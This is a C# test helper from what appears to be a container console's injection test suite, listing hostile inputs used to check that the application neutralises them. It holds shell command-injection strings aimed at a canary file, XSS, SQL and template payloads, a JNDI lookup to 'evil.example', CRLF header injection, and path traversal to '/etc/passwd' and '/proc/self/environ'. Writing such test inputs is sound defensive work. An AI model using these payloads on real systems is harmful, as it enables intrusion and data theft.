using PodConsole.Tests.Runtimes.LocalProcess;

namespace PodConsole.Tests.Injection;

/// <summary>Texts that mean something to a shell, a page, a query, a template, a header, a path or a formatter.</summary>
internal static class HostileTexts
{
    /// <summary>All of them. Those that could make a file name this one.</summary>
    /// <param name="canary">The path of a file that must never be made.</param>
    public static IReadOnlyList<string> All(string canary) => [.. Payloads.Hostile, .. new[]
    {
        // Shells.
        $"$(touch {canary})", $"`touch {canary}`", $"; touch {canary}", $"| touch {canary}", $"|| touch {canary} #", $"' ; touch {canary} ; '",
        $"\" ; touch {canary} ; \"", $"\n touch {canary} \n", $"x\ntouch {canary}", $"<(touch {canary})", $"() {{ :;}}; touch {canary}", "$((1/0))",
        "${IFS}x", "$@", "$0", "%COMSPEC%", "& calc.exe",

        // Arguments that look like options.
        "-c", "--init", "--privileged", "-v/:/host", "--volume=/:/host", "-e", "--entrypoint=/bin/sh", "-oProxyCommand=x", "--upload-pack=x",

        // Pages.
        "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "javascript:alert(1)",
        "<iframe src=javascript:alert(1)>", "</textarea><script>alert(1)</script>", "<!--", "-->", "]]>", "&lt;script&gt;", "&#x3c;script&#x3e;",
        "<a href=\"javascript:alert(1)\">x</a>", "<style>*{display:none}</style>", "<base href=https://evil.example>", "<meta http-equiv=refresh content=0>",
        "[x](javascript:alert(1))", "![x](javascript:alert(1))",

        // Queries.
        "' OR '1'='1", "'; DROP TABLE Pods; --", "\" OR \"\"=\"", "1; DELETE FROM AspNetUsers", "' UNION SELECT Hash FROM ApiKeys --", "%", "_", "%' --", "\\%",
        "*) (|(uid=*", "{\"$gt\":\"\"}",

        // Templates and formatters.
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "{0}", "{0:x99999}", "{Name}", "{", "}", "%n%n%n%n", "%1$s", "${jndi:ldap://evil.example/x}",

        // Headers and lines of logs.
        "x\r\nX-Injected: 1", "x\r\n\r\n<html>", "x\nSet-Cookie: a=b", "%0d%0aX-Injected:%201", "x\u000bX-Injected: 1", "info: forged[0]",

        // Paths and addresses.
        "../../../../etc/passwd", "..\\..\\x", "%2e%2e%2fetc%2fpasswd", "/proc/self/environ", "//evil.example/x", "\\\\evil.example\\x", "https://evil.example",
        "http://169.254.169.254/", "CON", "x\u0000y",

        // Characters.
        "\u202egnp.exe", "\u200b", "\u2066x\u2069", "\ufffd", "\ufffe", "Ω≈ç√", "\u0301\u0301\u0301", "İstanbul ı", "ﬃ", "\ud835\udd4f",
    }.Distinct()];
}
